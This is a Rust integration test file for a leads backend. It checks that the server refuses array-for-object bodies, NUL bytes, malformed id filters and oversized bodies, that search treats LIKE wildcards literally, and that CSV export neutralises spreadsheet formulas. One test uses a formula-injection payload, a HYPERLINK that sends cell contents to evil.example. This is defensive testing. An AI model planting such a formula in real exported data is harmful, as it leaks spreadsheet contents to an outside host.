//! Input that tries to be read as something it is not: arrays in place of objects, NUL
//! characters, LIKE wildcards, spreadsheet formulas, oversized bodies on hand-parsed routes.

use crate::backend_tests;
use crate::helpers::{assert_problem, body, TestApp, ADMIN_EMAIL, PASSWORD};
use reqwest::{Method, StatusCode};
use serde_json::json;

backend_tests!(
    arrays_are_not_objects,
    nul_in_text_is_refused_everywhere,
    wildcards_in_search_are_searched_for,
    malformed_id_filters_are_refused,
    exported_formulas_are_neutralised_and_round_trip,
    oversized_bodies_on_hand_parsed_routes_are_problems,
);

async fn send_raw(
    app: &TestApp,
    method: Method,
    path: &str,
    token: Option<&str>,
    raw: &str,
) -> reqwest::Response {
    app.request(method, path, token)
        .header("content-type", "application/json")
        .body(raw.to_owned())
        .send()
        .await
        .unwrap()
}

async fn arrays_are_not_objects(app: TestApp) {
    let admin = app.admin_token.clone();
    let team = app.team("Original name", None).await;

    // Each of these was read as the struct's fields in order.
    let response = send_raw(
        &app,
        Method::PATCH,
        &format!("/teams/{team}"),
        Some(&admin),
        r#"["Renamed via array"]"#,
    )
    .await;
    assert_problem(response, 422, "validation_failed").await;
    let response = send_raw(
        &app,
        Method::POST,
        "/service-accounts",
        Some(&admin),
        r#"["sa", ["leads:read"]]"#,
    )
    .await;
    assert_problem(response, 422, "validation_failed").await;
    let response = send_raw(
        &app,
        Method::POST,
        "/auth/login",
        None,
        &json!([ADMIN_EMAIL, PASSWORD]).to_string(),
    )
    .await;
    assert_problem(response, 422, "validation_failed").await;
    // Nested objects too: a location given as [lat, lng].
    let response = app
        .post(
            "/leads",
            &admin,
            json!({"company_name": "Array stall", "location": [29.3, 120.1]}),
        )
        .await;
    let problem = assert_problem(response, 422, "validation_failed").await;
    assert_eq!(problem["errors"][0]["field"], "location", "{problem}");

    let team_now = body(app.get(&format!("/teams/{team}"), &admin).await).await;
    assert_eq!(team_now["name"], "Original name");
    let accounts = body(app.get("/service-accounts", &admin).await).await;
    assert_eq!(accounts["items"].as_array().unwrap().len(), 0);
    let leads = body(app.get("/leads", &admin).await).await;
    assert_eq!(leads["items"].as_array().unwrap().len(), 0);
}

async fn nul_in_text_is_refused_everywhere(app: TestApp) {
    let admin = app.admin_token.clone();
    let response = app
        .post("/leads", &admin, json!({"company_name": "a\u{0}b"}))
        .await;
    let problem = assert_problem(response, 422, "validation_failed").await;
    assert_eq!(problem["errors"][0]["field"], "company_name");
    assert!(problem["errors"][0]["message"]
        .as_str()
        .unwrap()
        .contains("NUL"));

    let response = app
        .request(Method::POST, "/auth/login", None)
        .json(&json!({"email": "a\u{0}@example.com", "password": PASSWORD}))
        .send()
        .await
        .unwrap();
    let problem = assert_problem(response, 422, "validation_failed").await;
    assert_eq!(problem["errors"][0]["field"], "email");

    let response = app
        .request(Method::POST, "/auth/token", None)
        .header("content-type", "application/x-www-form-urlencoded")
        .body("grant_type=client_credentials&client_id=a%00b&client_secret=x")
        .send()
        .await
        .unwrap();
    let problem = assert_problem(response, 422, "validation_failed").await;
    assert_eq!(problem["errors"][0]["field"], "client_id");

    for path in [
        "/leads?q=a%00b",
        "/leads?market=a%00",
        "/seller-accounts?q=%00",
        "/users?q=%00",
        "/leads/export.csv?q=a%00b",
        "/leads/duplicates?wechat_id=a%00b",
        "/visits?market=%00",
    ] {
        let response = app.get(path, &admin).await;
        let problem = assert_problem(response, 422, "validation_failed").await;
        assert_eq!(problem["errors"][0]["field"], "query", "{path}");
    }

    let response = app
        .request(Method::POST, "/leads/import", Some(&admin))
        .header("content-type", "text/csv")
        .body("company_name,notes\nNul stall,a\u{0}b\n")
        .send()
        .await
        .unwrap();
    let problem = assert_problem(response, 422, "validation_failed").await;
    assert_eq!(problem["errors"][0]["field"], "rows[1].notes", "{problem}");
    let leads = body(app.get("/leads", &admin).await).await;
    assert_eq!(leads["items"].as_array().unwrap().len(), 0);
}

async fn lead_names(app: &TestApp, query: &str) -> Vec<String> {
    let response = app.get(&format!("/leads?{query}"), &app.admin_token).await;
    assert_eq!(response.status(), StatusCode::OK);
    let mut names: Vec<String> = body(response).await["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l["company_name"].as_str().unwrap().to_owned())
        .collect();
    names.sort();
    names
}

async fn wildcards_in_search_are_searched_for(app: TestApp) {
    let admin = app.admin_token.clone();
    for name in [
        "100% Cotton Socks",
        "Snake_case Toys",
        "Plain Stall",
        "Back\\slash Bags",
    ] {
        let response = app
            .post("/leads", &admin, json!({"company_name": name}))
            .await;
        assert_eq!(response.status(), StatusCode::CREATED, "{name}");
    }
    assert_eq!(lead_names(&app, "q=%25").await, ["100% Cotton Socks"]);
    assert_eq!(lead_names(&app, "q=_").await, ["Snake_case Toys"]);
    assert_eq!(lead_names(&app, "q=%5C").await, ["Back\\slash Bags"]);
    assert_eq!(lead_names(&app, "q=e_c").await, ["Snake_case Toys"]);
    assert!(
        lead_names(&app, "q=s_c").await.is_empty(),
        "`_` matches only itself"
    );
    assert_eq!(lead_names(&app, "q=stall").await, ["Plain Stall"]);
}

/// An id filter that is empty or not a UUID is refused, never read as "no filter".
async fn malformed_id_filters_are_refused(app: TestApp) {
    for path in [
        "/leads?team_id=",
        "/leads?owner_id=x",
        "/meetings?team_id=",
        "/visits?rep_id=nope",
        "/users?team_id=",
        "/leads/export.csv?team_id=",
        "/leads/duplicates?stall_no=",
        "/teams?parent_id=east",
        "/visits?team_id=nope",
        "/seller-accounts?team_id=x",
        "/targets?period=2026-11&team_id=x",
        "/targets/2026-11/progress?team_id=x",
        "/leaderboard?period=2026-11&team_id=x",
    ] {
        let response = app.get(path, &app.admin_token).await;
        assert_problem(response, 422, "validation_failed").await;
    }
}

async fn exported_formulas_are_neutralised_and_round_trip(app: TestApp) {
    let admin = app.admin_token.clone();
    let formula = r#"=HYPERLINK("http://evil.example/?"&A2,"Open")"#;
    let created = app
        .post(
            "/leads",
            &admin,
            json!({"company_name": formula, "contact_name": "@SUM(A1)", "phone": "+86 138 0013 8000",
                   "notes": "-2+3", "product_categories": ["+1 gadgets"]}),
        )
        .await;
    assert_eq!(created.status(), StatusCode::CREATED);
    let original = body(created).await;

    let response = app.get("/leads/export.csv", &admin).await;
    assert_eq!(response.status(), StatusCode::OK);
    let text = response.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let headers: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let row: Vec<String> = reader
        .records()
        .next()
        .unwrap()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let cell = |name: &str| row[headers.iter().position(|h| h == name).unwrap()].clone();
    assert_eq!(cell("company_name"), format!("'{formula}"));
    assert_eq!(cell("contact_name"), "'@SUM(A1)");
    assert_eq!(cell("phone"), "'+8613800138000");
    assert_eq!(cell("notes"), "'-2+3");
    assert_eq!(cell("product_categories"), "'+1 gadgets");
    for (i, value) in row.iter().enumerate() {
        assert!(
            !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "column {} would be evaluated: {value:?}",
            headers[i]
        );
    }

    // Re-imported (into a fresh server), the cells read as the values they stood for.
    let fresh = TestApp::spawn(app.backend).await.unwrap();
    let keep = [
        "company_name",
        "contact_name",
        "phone",
        "notes",
        "product_categories",
    ];
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer.write_record(keep).unwrap();
    writer.write_record(keep.map(cell)).unwrap();
    let file = String::from_utf8(writer.into_inner().unwrap()).unwrap();
    let response = fresh
        .request(Method::POST, "/leads/import", Some(&fresh.admin_token))
        .header("content-type", "text/csv")
        .body(file)
        .send()
        .await
        .unwrap();
    assert_eq!(
        response.status(),
        StatusCode::OK,
        "{}",
        response.text().await.unwrap()
    );
    let imported = body(fresh.get("/leads", &fresh.admin_token).await).await["items"][0].clone();
    for field in keep {
        assert_eq!(imported[field], original[field], "{field}");
    }
}

async fn oversized_bodies_on_hand_parsed_routes_are_problems(app: TestApp) {
    let big = "x".repeat(1024 * 1024 + 10);
    for (path, content_type, token) in [
        (
            "/auth/logout",
            "application/json",
            Some(app.admin_token.as_str()),
        ),
        ("/auth/token", "application/x-www-form-urlencoded", None),
        ("/auth/token", "application/json", None),
    ] {
        let response = app
            .request(Method::POST, path, token)
            .header("content-type", content_type)
            .body(big.clone())
            .send()
            .await
            .unwrap();
        assert_problem(response, 413, "payload_too_large").await;
    }
    // And a `null` body signs out as the schema allows.
    let response = send_raw(
        &app,
        Method::POST,
        "/auth/logout",
        Some(&app.admin_token),
        "null",
    )
    .await;
    assert_eq!(response.status(), StatusCode::NO_CONTENT);
}
